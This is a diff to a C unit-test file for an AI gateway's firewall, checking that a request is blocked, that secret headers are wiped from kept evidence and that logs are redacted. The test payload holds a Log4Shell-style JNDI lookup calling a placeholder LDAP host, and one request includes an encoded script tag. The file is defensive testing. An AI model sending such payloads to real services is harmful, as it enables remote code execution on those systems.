@@ -8,22 +8,23 @@
 #define ATTACK "{\"model\":\"echo\",\"messages\":[],\"user\":\"${jndi:ldap://e.example/a}\"}"
 
 static const aigw_header fields[] = {
-    {{"host", 4}, {"gateway.example", 15}},
-    {{"user-agent", 10}, {"unit/1", 6}},
-    {{"content-type", 12}, {"application/json", 16}},
-    {{"x-api-key", 9}, {"SECRET-1", 8}},
+    {{"host", 4}, {"gateway.example", 15}},           {{"user-agent", 10}, {"unit/1", 6}},
+    {{"content-type", 12}, {"application/json", 16}}, {{"x-api-key", 9}, {"SECRET-1", 8}},
+    {{"x-team-token", 12}, {"SECRET-2", 8}},
 };
+
+enum { FIELDS = sizeof fields / sizeof *fields };
 
 /* Starts with copies of everything that are gone when start has returned. */
 static aigw_exchange *start(fake *f, const char *target, const char *body, bool follows,
                             aigw_channel channel, const char *peer)
 {
     aigw_request request = fake_request(target, follows ? "" : body);
-    aigw_header copies[4];
-    char *texts[9];
+    aigw_header copies[FIELDS];
+    char *texts[2 * FIELDS + 1];
     size_t n = 0;
     request.method = aigw_slice_of(body ? "POST" : "GET");
-    for (size_t i = 0; i < 4; i++) {
+    for (size_t i = 0; i < FIELDS; i++) {
         texts[n] = strndup(fields[i].name.data, fields[i].name.len);
         copies[i].name = gw_slice(texts[n++], fields[i].name.len);
         texts[n] = strndup(fields[i].value.data, fields[i].value.len);
@@ -32,7 +33,7 @@ static aigw_exchange *start(fake *f, const char *target, const char *body, bool 
     texts[n] = strdup(target);
     request.target = aigw_slice_of(texts[n++]);
     request.headers = copies;
-    request.header_count = 4;
+    request.header_count = FIELDS;
     request.body_follows = follows;
     request.channel = channel;
     request.peer = aigw_slice_of(peer);
@@ -102,15 +103,18 @@ static void only_what_may_be_needed_is_kept(void **state)
     if (kept < 230 || kept > 430)
         fail_msg("%d of 1000 were kept", kept);
     aigw_exchange *x = start(f, OPENAI_PATH, ATTACK, true, AIGW_CHANNEL_CLEAR, "127.0.0.1");
-    assert_non_null(x->evidence.kept);
-    for (size_t i = 0; i < x->evidence.kept->header_count; i++)
-        assert_false(gw_eq(x->evidence.kept->headers[i].value, GW_S("SECRET-1")));
+    assert_non_null(x->evidence.raw);
+    const aigw_slice copy = gw_slice(x->evidence.raw_bytes, x->evidence.raw_len);
+    assert_non_null(gw_find(copy, GW_S("SECRET-2"))); /* not yet known to be one */
+    assert_null(gw_find(copy, GW_S("SECRET-1")));
     assert_int_equal(aigw_exchange_body(x, GW_S(ATTACK), NULL), AIGW_OK);
+    assert_null(x->evidence.raw);
+    assert_null(gw_find(copy, GW_S("SECRET-2"))); /* wiped */
     end(f, x, 403);
     assert_has(f->log, "\"terminatingRuleId\":\"AWSManagedRulesKnownBadInputsRuleSet\"");
     assert_has(f->log, "{\"name\":\"user-agent\",\"value\":\"unit/1\"}");
     assert_has(f->log, "{\"name\":\"x-api-key\",\"value\":\"REDACTED\"}");
-    assert_has_not(f->log, "SECRET-1");
+    assert_has_not(f->log, "SECRET-");
     assert_has_not(f->log, "hello");
     assert_int_equal(metric(f, "ai-gateway-known-bad-inputs", "block"), 1);
     fake_free(f);
@@ -121,7 +125,7 @@ static void nothing_is_kept_where_nothing_is_shown(void **state)
     (void)state;
     fake *f = fake_new(BASE "waf: {log: none, samples: false}\n", NULL, 0);
     aigw_exchange *x = start(f, OPENAI_PATH, ATTACK, true, AIGW_CHANNEL_CLEAR, "127.0.0.1");
-    assert_null(x->evidence.kept);
+    assert_null(x->evidence.raw);
     assert_int_equal(aigw_exchange_body(x, GW_S(ATTACK), NULL), AIGW_OK);
     end(f, x, 403);
     assert_string_equal(f->log, "");
@@ -176,7 +180,7 @@ static void without_memory(void **state)
         a.fail_at = n;
         aigw_request request = fake_request("/v1/models?q=%3Cscript%3E", NULL);
         request.headers = fields;
-        request.header_count = 4;
+        request.header_count = FIELDS;
         request.channel = AIGW_CHANNEL_CLEAR;
         request.peer = GW_S("127.0.0.1");
         aigw_exchange *x = NULL;
